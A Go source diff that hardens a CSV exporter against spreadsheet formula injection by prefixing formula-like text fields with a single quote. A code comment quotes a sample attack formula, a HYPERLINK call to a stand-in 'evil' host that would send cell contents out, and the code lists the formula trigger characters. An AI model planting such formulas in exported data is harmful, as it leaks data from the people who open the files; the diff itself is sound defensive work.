@@ -33,7 +33,10 @@ func contains(list []string, s string) bool {
 }
 
 // csvEncoder writes RFC 4180 CSV (LF line ends; fields quoted when they
-// hold a comma, quote, CR/LF or edge spaces).
+// hold a comma, quote, CR/LF or edge spaces). Text fields that a
+// spreadsheet would run as a formula are neutralised (see appendField);
+// numeric fields (lon, lat, score, counts, offsets) are always written as
+// plain numbers, so GIS readers still see them as numbers.
 type csvEncoder struct{}
 
 func (csvEncoder) header() []byte { return append([]byte(strings.Join(csvColumns(), ",")), '\n') }
@@ -113,14 +116,29 @@ func appendInt(dst []byte, v int) []byte {
 	return strconv.AppendInt(dst, int64(v), 10)
 }
 
-// appendField appends ",value", quoting value as RFC 4180 requires.
-// Invalid UTF-8 becomes U+FFFD so the file is valid UTF-8 throughout.
+// appendField appends ",value" for a text field, quoting value as RFC 4180
+// requires. Invalid UTF-8 becomes U+FFFD so the file is valid UTF-8
+// throughout.
+//
+// Text that starts like a formula gets a leading single quote (OWASP "CSV
+// Injection"): event text comes from scraped articles and API clients, and
+// Excel or LibreOffice would otherwise run a sentence such as
+// =HYPERLINK("http://evil/?"&A1) when an analyst opens the export. The quote
+// makes the spreadsheet show the cell as text; other readers see it as part
+// of the value. Only text fields pass through here, so coordinates and other
+// numbers (including negative ones) stay numeric.
 func appendField(dst []byte, s string) []byte {
 	dst = append(dst, ',')
 	if !utf8.ValidString(s) {
 		s = strings.ToValidUTF8(s, "\uFFFD")
 	}
-	if s == "" || !needsQuotes(s) {
+	if s == "" {
+		return dst
+	}
+	if isFormulaTrigger(s[0]) {
+		s = "'" + s
+	}
+	if !needsQuotes(s) {
 		return append(dst, s...)
 	}
 	dst = append(dst, '"')
@@ -135,6 +153,16 @@ func appendField(dst []byte, s string) []byte {
 	}
 	dst = append(dst, s...)
 	return append(dst, '"')
+}
+
+// isFormulaTrigger reports whether a cell starting with b is taken as a
+// formula by spreadsheets: the characters OWASP lists (= + - @, TAB, CR).
+func isFormulaTrigger(b byte) bool {
+	switch b {
+	case '=', '+', '-', '@', '\t', '\r':
+		return true
+	}
+	return false
 }
 
 func needsQuotes(s string) bool {
